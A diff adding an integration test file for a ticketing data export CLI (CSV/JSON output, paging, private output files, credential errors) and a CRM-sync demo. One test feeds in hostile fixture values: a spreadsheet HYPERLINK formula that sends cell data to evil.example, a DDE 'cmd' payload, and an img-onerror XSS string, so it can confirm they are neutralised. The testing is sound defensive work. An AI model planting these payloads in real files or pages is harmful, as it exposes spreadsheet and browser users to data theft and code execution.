@@ -1,0 +1,253 @@
+// `ticketing-widgets export` and demo/crm-sync.mjs as real processes, against the reference API (and
+// the real proxy) over loopback: every page, the CSV rules, the private output file, the failures.
+import assert from 'node:assert/strict';
+import { execFile } from 'node:child_process';
+import { mkdtemp, readdir, readFile, stat } from 'node:fs/promises';
+import { tmpdir } from 'node:os';
+import path from 'node:path';
+import { describe, test } from 'node:test';
+import { AUTH, DEMO_APP_PASSWORD, DEMO_USER, getAll, ROOT, startFor, type Parsed } from './helpers.js';
+import { startCapture, startProxyFor } from './proxy-helpers.js';
+
+const CLI = path.join(ROOT, 'dist/server/cli.js');
+const CREDENTIALS = { TICKETING_WP_USER: DEMO_USER, TICKETING_WP_APP_PASSWORD: DEMO_APP_PASSWORD };
+
+interface Exit {
+  code: number | null;
+  stdout: string;
+  stderr: string;
+}
+
+/** Runs a script with only the given secrets in its environment (none inherited from this one). */
+function run(script: string, args: string[], env: Record<string, string> = {}): Promise<Exit> {
+  const clean = Object.fromEntries(Object.entries(process.env).filter(([name]) => !name.startsWith('TICKETING_')));
+  return new Promise((resolve) => {
+    const child = execFile(process.execPath, [script, ...args], { cwd: ROOT, env: { ...clean, ...env }, encoding: 'utf8' }, (_error, stdout, stderr) =>
+      resolve({ code: child.exitCode, stdout, stderr }),
+    );
+  });
+}
+const exportCli = (args: string[], env?: Record<string, string>) => run(CLI, ['export', ...args], env);
+
+/** RFC 4180 records of a CSV document (quoted fields may hold commas, quotes and line breaks). */
+function parseCsv(text: string): string[][] {
+  const records: string[][] = [];
+  let record: string[] = [];
+  let at = 0;
+  while (at < text.length) {
+    let field = '';
+    if (text[at] === '"') {
+      at++;
+      for (;;) {
+        const quote = text.indexOf('"', at);
+        field += text.slice(at, quote);
+        at = quote + 1;
+        if (text[at] !== '"') break;
+        field += '"';
+        at++;
+      }
+    } else {
+      const end = text.slice(at).search(/,|\r\n/);
+      field = text.slice(at, end < 0 ? text.length : at + end);
+      at += field.length;
+    }
+    record.push(field);
+    if (text.startsWith('\r\n', at)) {
+      records.push(record);
+      record = [];
+      at += 2;
+    } else at++;
+  }
+  return records;
+}
+
+describe('ticketing-widgets export', () => {
+  test('passengers as CSV: every page, BOM, CRLF, quoted text, numbers as numbers, formula starts neutralised, progress on stderr', async (t) => {
+    const site = await startFor(t);
+    const all: Parsed[] = await getAll(site.url, '/wbtm/v1/passengers', '', { Authorization: AUTH });
+    assert.ok(all.length > 100, 'the seed spans more than one page');
+    const result = await exportCli(['passengers', '--target', `${site.url}/wp-json`], CREDENTIALS);
+    assert.equal(result.code, 0, result.stderr);
+    assert.ok(result.stdout.startsWith('\uFEFF'), 'UTF-8 byte-order mark');
+    assert.ok(result.stdout.endsWith('\r\n'));
+    assert.doesNotMatch(result.stdout.replace(/\r\n/g, ''), /\n/, 'no bare line feeds');
+    const [header, ...rows] = parseCsv(result.stdout.slice(1));
+    assert.deepEqual(header, ['Name', 'Seat', 'Boarding', 'Dropping', 'Ticket type', 'Price', 'E-mail', 'Phone', 'Booking', 'Bus', 'Date', 'Status']);
+    assert.equal(rows.length, all.length);
+    assert.deepEqual(
+      rows.map((row) => Number(row[8])),
+      all.map((p) => p.booking_id),
+    );
+    // Prices are bare numbers; a phone "+49 …" is text that a spreadsheet would evaluate: it gets a "'".
+    const first = all[0];
+    assert.equal(rows[0]![5], String(first.price));
+    assert.equal(rows[0]![7], /^[=+\-@\t\r]/.test(first.phone) ? `'${first.phone}` : first.phone);
+    assert.match(result.stdout, /\r\n"Chlo|\r\n"[^"]/, 'text fields are quoted');
+    assert.match(result.stderr, /passengers: 100 of \d+ \(page 1 of 2\)/);
+    assert.match(result.stderr, new RegExp(`passengers: ${all.length} of ${all.length} \\(page 2 of 2\\)`));
+  });
+
+  test('--bus-id and --date narrow it; JSON records keyed by --columns, in that order', async (t) => {
+    const site = await startFor(t);
+    const all: Parsed[] = await getAll(site.url, '/wbtm/v1/passengers', '', { Authorization: AUTH });
+    const { bus_id: busId, date } = all[all.length - 1];
+    const expected = all.filter((p) => p.bus_id === busId && p.date === date);
+    const result = await exportCli(
+      ['passengers', '--target', `${site.url}/wp-json`, '--bus-id', String(busId), '--date', date, '--format', 'json', '--columns', 'booking-id,name,price'],
+      CREDENTIALS,
+    );
+    assert.equal(result.code, 0, result.stderr);
+    assert.equal(result.stderr, '', 'one page: no progress line');
+    const records: Parsed[] = JSON.parse(result.stdout);
+    assert.deepEqual(
+      records,
+      expected.map((p) => ({ 'booking-id': p.booking_id, name: p.name, price: p.price })),
+    );
+    assert.deepEqual(Object.keys(records[0]!), ['booking-id', 'name', 'price']);
+  });
+
+  test('--out writes a file only its owner may read, atomically, and says how many rows', async (t) => {
+    const site = await startFor(t);
+    const dir = await mkdtemp(path.join(tmpdir(), 'tw-export-'));
+    const file = path.join(dir, 'manifest.csv');
+    const result = await exportCli(['passengers', '--target', `${site.url}/wp-json`, '--out', file, '--quiet'], CREDENTIALS);
+    assert.equal(result.code, 0, result.stderr);
+    assert.equal(result.stdout, '');
+    assert.equal(result.stderr, '', '--quiet: nothing on stderr');
+    assert.equal((await stat(file)).mode & 0o777, 0o600);
+    assert.deepEqual(await readdir(dir), ['manifest.csv'], 'no temporary file left behind');
+    assert.ok((await readFile(file, 'utf8')).startsWith('\uFEFF"Name"'));
+  });
+
+  test('attendees, one event, as JSON; checked-in as a boolean', async (t) => {
+    const site = await startFor(t);
+    const all: Parsed[] = await getAll(site.url, '/wp/v2/mep_event_attendee', '', { Authorization: AUTH });
+    const eventId = Number(all[0].attendee_informations.ea_event_id[0]);
+    const expected = all.filter((a) => Number(a.attendee_informations.ea_event_id[0]) === eventId);
+    const result = await exportCli(['attendees', '--target', `${site.url}/wp-json`, '--event-id', String(eventId), '--format', 'json'], CREDENTIALS);
+    assert.equal(result.code, 0, result.stderr);
+    const records: Parsed[] = JSON.parse(result.stdout);
+    assert.deepEqual(
+      records.map((r: Parsed) => r.id),
+      expected.map((a) => a.id),
+    );
+    assert.ok(records.every((r: Parsed) => r['event-id'] === eventId && typeof r['checked-in'] === 'boolean'));
+  });
+
+  test('through our proxy with TICKETING_PROXY_TOKEN (Bearer)', async (t) => {
+    const site = await startFor(t);
+    const token = 'export-token-0123456789abcdef';
+    const { url } = await startProxyFor(t, `${site.url}/wp-json`, {
+      credentials: { user: DEMO_USER, appPassword: DEMO_APP_PASSWORD },
+      allowPrivate: true,
+      token,
+      upstreamRate: { requests: 600, perMs: 60_000 },
+    });
+    const result = await exportCli(['passengers', '--target', `${url}/wp-json`, '--format', 'json'], { TICKETING_PROXY_TOKEN: token });
+    assert.equal(result.code, 0, result.stderr);
+    assert.ok(JSON.parse(result.stdout).length > 100);
+    const refused = await exportCli(['passengers', '--target', `${url}/wp-json`], { TICKETING_PROXY_TOKEN: 'wrong-token-0123456789abcdef' });
+    assert.equal(refused.code, 1);
+    assert.match(refused.stderr, /refused the credentials \(HTTP 401/);
+  });
+
+  test('hostile values: markup stays literal text, formulas are neutralised in every text column', async (t) => {
+    const hostile = {
+      booking_id: 1,
+      name: '=HYPERLINK("http://evil.example/?"&A1,"click")',
+      email: '+1+cmd|"/C calc"!A0',
+      phone: '@SUM(1+1)',
+      bus_id: 7,
+      bus_name: '-2+3',
+      date: '2026-11-24',
+      boarding_point: '\tTab',
+      dropping_point: '\rCarriage',
+      seat: 'A1',
+      ticket_type: '<img src=x onerror=alert(1)>adult',
+      price: 10,
+      status: 'confirmed',
+    };
+    const capture = await startCapture(t, () => ({ body: [hostile], headers: { 'X-WP-Total': '1', 'X-WP-TotalPages': '1' } }));
+    const result = await exportCli(['passengers', '--target', `${capture.url}/wp-json`], CREDENTIALS);
+    assert.equal(result.code, 0, result.stderr);
+    const [, row] = parseCsv(result.stdout.slice(1));
+    for (const [index, cell] of row!.entries()) {
+      if (index === 5 || index === 8) continue; // price and booking id: numbers
+      assert.doesNotMatch(cell, /^[=+\-@\t\r]/, `column ${index}: ${JSON.stringify(cell)}`);
+    }
+    assert.equal(row![0], `'${hostile.name}`);
+    assert.equal(row![4], hostile.ticket_type, 'markup is literal text in a CSV cell, nothing runs it');
+    assert.equal(capture.seen[0]!.headers.authorization, AUTH, 'Basic credentials from the environment');
+  });
+
+  test('failures exit 1 with a message that says what to do, and never print the password', async (t) => {
+    const site = await startFor(t);
+    const wrong = await exportCli(['passengers', '--target', `${site.url}/wp-json`], {
+      TICKETING_WP_USER: DEMO_USER,
+      TICKETING_WP_APP_PASSWORD: 'abcd EFGH 1234 ijkl',
+    });
+    assert.equal(wrong.code, 1);
+    assert.match(wrong.stderr, /refused the credentials \(HTTP 401 /);
+    assert.doesNotMatch(wrong.stderr + wrong.stdout, /abcd|EFGH|ijkl/);
+
+    const plugin = await startFor(t, { dialect: 'plugin' });
+    const noRoute = await exportCli(['passengers', '--target', `${plugin.url}/wp-json`], CREDENTIALS);
+    assert.equal(noRoute.code, 1);
+    assert.match(noRoute.stderr, /does not publish passengers: no \/wbtm\/v1\/passengers route/);
+
+    const dead = await startCapture(t);
+    await dead.close();
+    const unreachable = await exportCli(['attendees', '--target', `${dead.url}/wp-json`], CREDENTIALS);
+    assert.equal(unreachable.code, 1);
+    assert.match(unreachable.stderr, /could not reach http:\/\/127\.0\.0\.1:\d+/);
+
+    const anonymous = await exportCli(['passengers', '--target', `${site.url}/wp-json`]);
+    assert.equal(anonymous.code, 1);
+    assert.match(anonymous.stderr, /personal data needs credentials/);
+  });
+
+  test('usage errors exit 2; secrets are refused as flags without being echoed', async () => {
+    const cases: Array<[string[], RegExp]> = [
+      [['passengers'], /needs --target/],
+      [['bookings', '--target', 'http://127.0.0.1:9/wp-json'], /passengers or attendees/],
+      [['passengers', '--target', 'ftp://example.org'], /http\(s\) URL/],
+      [['passengers', '--target', 'http://127.0.0.1:9/wp-json', '--date', '24.11.2026'], /--date must look like/],
+      [['attendees', '--target', 'http://127.0.0.1:9/wp-json', '--bus-id', '4'], /for passengers/],
+      [['passengers', '--target', 'http://127.0.0.1:9/wp-json', '--format', 'xlsx'], /csv or json/],
+    ];
+    for (const [args, message] of cases) {
+      const result = await exportCli(args, CREDENTIALS);
+      assert.equal(result.code, 2, args.join(' '));
+      assert.match(result.stderr, message);
+    }
+    const secret = await exportCli(['passengers', '--target', 'http://127.0.0.1:9/wp-json', '--app-password=hunter2secret']);
+    assert.equal(secret.code, 2);
+    assert.doesNotMatch(secret.stderr, /hunter2secret/);
+  });
+
+  test('an unknown column is a usage error naming the known ones', async (t) => {
+    const site = await startFor(t);
+    const result = await exportCli(['passengers', '--target', `${site.url}/wp-json`, '--columns', 'name,iban'], CREDENTIALS);
+    assert.equal(result.code, 2);
+    assert.match(result.stderr, /unknown column "iban"; known: name, seat/);
+  });
+});
+
+describe('demo/crm-sync.mjs', () => {
+  test('merges every passenger into one contact per e-mail, as JSON lines', async (t) => {
+    const site = await startFor(t);
+    const all: Parsed[] = await getAll(site.url, '/wbtm/v1/passengers', '', { Authorization: AUTH });
+    const result = await run(path.join(ROOT, 'demo/crm-sync.mjs'), [`${site.url}/wp-json`], CREDENTIALS);
+    assert.equal(result.code, 0, result.stderr);
+    const contacts = result.stdout
+      .trim()
+      .split('\n')
+      .map((line) => JSON.parse(line));
+    assert.equal(contacts.length, new Set(all.map((p) => p.email.toLowerCase())).size);
+    assert.equal(
+      contacts.reduce((sum: number, contact: Parsed) => sum + contact.bookings.length, 0),
+      all.length,
+    );
+    assert.match(result.stderr, new RegExp(`${contacts.length} contacts from ${all.length} passengers`));
+  });
+});
